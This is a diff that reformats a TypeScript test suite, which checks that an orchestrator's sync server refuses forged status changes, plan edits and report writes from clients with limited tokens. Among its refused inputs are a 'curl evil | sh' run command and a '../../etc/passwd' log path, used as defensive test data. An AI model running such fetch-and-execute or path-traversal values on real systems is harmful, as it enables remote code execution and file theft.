@@ -30,7 +30,7 @@ const serverStore = () => new PlanStore(s, { onWarning: () => {} })
 beforeAll(async () => {
   root = tempRoot("concord-judge-")
   s = path.join(root, "server")
-  X = await createPlanCli(s, FOUNDING_PLAN.replace("{ name: C, run: \"true\" }", "{ name: C, run: \"true\" }\n  - { name: D, run: \"true\" }"))
+  X = await createPlanCli(s, FOUNDING_PLAN.replace('{ name: C, run: "true" }', '{ name: C, run: "true" }\n  - { name: D, run: "true" }'))
   // the orchestrator's state before any agent talks to the server: A running; B's first attempt failed
   // and its second runs; C running; D queued
   const store = serverStore()
@@ -120,7 +120,15 @@ async function refusedInPlan(token: string, what: string, change: (d: Plan) => v
     const msg = `allowed after: ${what} ${randomBytes(3).toString("hex")}`
     await reportB(sess, msg)
     await until(`refusal of ${what}`, () => refusals() > n)
-    expect(server.logs().split("\n").filter(l => /refused sync from /.test(l)).slice(n).join("\n"), what).toMatch(reason)
+    expect(
+      server
+        .logs()
+        .split("\n")
+        .filter(l => /refused sync from /.test(l))
+        .slice(n)
+        .join("\n"),
+      what
+    ).toMatch(reason)
     await until(`the allowed report after ${what} on the server's disk`, () => serverHasReport(msg))
     const onDisk = await serverStore().loadPlan(X)
     expect(A.hasHeads(onDisk, forbidden), `${what} must not be in the server's store`).toBe(false)
@@ -132,8 +140,18 @@ async function refusedInPlan(token: string, what: string, change: (d: Plan) => v
 describe("a stock automerge-repo client with a job:B token", () => {
   it("cannot set merged, ready_to_merge, another attempt's status, a new attempt or a plan field", async () => {
     await refusedInPlan(tk.jobB, "B merged", d => void (d.jobs.B.status["2"] = "merged"), /may not move job B attempt 2 from running to merged/)
-    await refusedInPlan(tk.jobB, "B ready_to_merge", d => void (d.jobs.B.status["2"] = new A.ImmutableString("ready_to_merge")), /from running to ready_to_merge/)
-    await refusedInPlan(tk.jobB, "B attempt 1 completed", d => void (d.jobs.B.status["1"] = new A.ImmutableString("completed")), /only change the current attempt \(2\)/)
+    await refusedInPlan(
+      tk.jobB,
+      "B ready_to_merge",
+      d => void (d.jobs.B.status["2"] = new A.ImmutableString("ready_to_merge")),
+      /from running to ready_to_merge/
+    )
+    await refusedInPlan(
+      tk.jobB,
+      "B attempt 1 completed",
+      d => void (d.jobs.B.status["1"] = new A.ImmutableString("completed")),
+      /only change the current attempt \(2\)/
+    )
     await refusedInPlan(
       tk.jobB,
       "B attempt 3",
@@ -145,7 +163,12 @@ describe("a stock automerge-repo client with a job:B token", () => {
     )
     await refusedInPlan(tk.jobB, "plan field", d => void (d.maxParallel = 99), /may only change jobs\.B .*\(put maxParallel\) is outside/)
     await refusedInPlan(tk.jobB, "B's run command", d => void (d.jobs.B.run = new A.ImmutableString("curl evil | sh")), /\(put jobs\.B\.run\) is outside/)
-    await refusedInPlan(tk.jobB, "B's log path", d => void (d.jobs.B.attempts["2"].log = new A.ImmutableString("../../etc/passwd")), /may not set log of an attempt/)
+    await refusedInPlan(
+      tk.jobB,
+      "B's log path",
+      d => void (d.jobs.B.attempts["2"].log = new A.ImmutableString("../../etc/passwd")),
+      /may not set log of an attempt/
+    )
     await refusedInPlan(tk.jobB, "job A failed", d => void (d.jobs.A.status["1"] = new A.ImmutableString("failed")), /\(put jobs\.A\.status\.1\) is outside/)
 
     const v = readPlan(await serverStore().loadPlan(X))
@@ -163,7 +186,9 @@ describe("a stock automerge-repo client with a job:B token", () => {
     try {
       const n = refusals()
       const logA = await sess.find<any>(reportDocId(X, "A"))
-      logA.change(d => void d.reports.push({ status: "completed", message: "A is done (not really)", progress: null, at: Date.now(), by: "job:A#1@x", attempt: 1 }))
+      logA.change(
+        d => void d.reports.push({ status: "completed", message: "A is done (not really)", progress: null, at: Date.now(), by: "job:A#1@x", attempt: 1 })
+      )
       const forgedA = A.getHeads(logA.doc())
       await until("refusal of a write to A's log", () => refusals() > n)
       expect(server.logs()).toMatch(/may not write the report log of job A/)
@@ -171,7 +196,9 @@ describe("a stock automerge-repo client with a job:B token", () => {
       // a report for the failed first attempt, alone in its own message
       const logB = await sess.find<any>(reportDocId(X, "B"))
       await until("B's log synced", () => logB.doc().reports.length >= 1)
-      logB.change(d => void d.reports.push({ status: "completed", message: "attempt 1 after all", progress: null, at: Date.now(), by: "job:B#1@x", attempt: 1 }))
+      logB.change(
+        d => void d.reports.push({ status: "completed", message: "attempt 1 after all", progress: null, at: Date.now(), by: "job:B#1@x", attempt: 1 })
+      )
       const stale = A.getHeads(logB.doc())
       await until("refusal of a report for attempt 1", () => refusals() > n + 1)
       expect(server.logs()).toMatch(/a report for attempt 1, but the job's current attempt is 2/)
@@ -200,9 +227,27 @@ describe("a stock automerge-repo client with a job:B token", () => {
 
 describe("a stock client with a writer token", () => {
   it("cannot make transitions the state machine forbids; a legal move in the same session lands", async () => {
-    await refusedInPlan(tk.writer, "C running -> merged", d => void (d.jobs.C.status["1"] = new A.ImmutableString("merged")), /may not move job C attempt 1 from running to merged: the state machine forbids it/, "user@desk")
-    await refusedInPlan(tk.writer, "plan pending -> completed", d => void (d.status = new A.ImmutableString("completed")), /may not move the plan from pending to completed/, "user@desk")
-    await refusedInPlan(tk.writer, "D queued -> merged", d => void (d.jobs.D.status["1"] = new A.ImmutableString("merged")), /from queued to merged/, "user@desk")
+    await refusedInPlan(
+      tk.writer,
+      "C running -> merged",
+      d => void (d.jobs.C.status["1"] = new A.ImmutableString("merged")),
+      /may not move job C attempt 1 from running to merged: the state machine forbids it/,
+      "user@desk"
+    )
+    await refusedInPlan(
+      tk.writer,
+      "plan pending -> completed",
+      d => void (d.status = new A.ImmutableString("completed")),
+      /may not move the plan from pending to completed/,
+      "user@desk"
+    )
+    await refusedInPlan(
+      tk.writer,
+      "D queued -> merged",
+      d => void (d.jobs.D.status["1"] = new A.ImmutableString("merged")),
+      /from queued to merged/,
+      "user@desk"
+    )
     await refusedInPlan(tk.writer, "delete job D", d => void delete d.jobs.D, /may not delete job D/, "user@desk")
     const sess = stock(tk.writer)
     try {
